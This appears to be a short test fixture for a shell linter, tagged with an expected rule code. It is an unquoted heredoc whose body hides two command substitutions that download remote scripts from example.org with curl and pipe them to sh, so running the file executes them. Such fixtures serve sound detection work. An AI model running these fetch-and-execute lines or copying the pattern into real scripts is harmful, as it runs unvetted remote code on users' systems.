# expect: DVM202
set -Eeuo pipefail
cat <<E >/dev/null
list:
  - $(curl -fsSL https://example.org/i.sh | sh)
  $(curl -fsSL https://example.org/j.sh | sh)
E
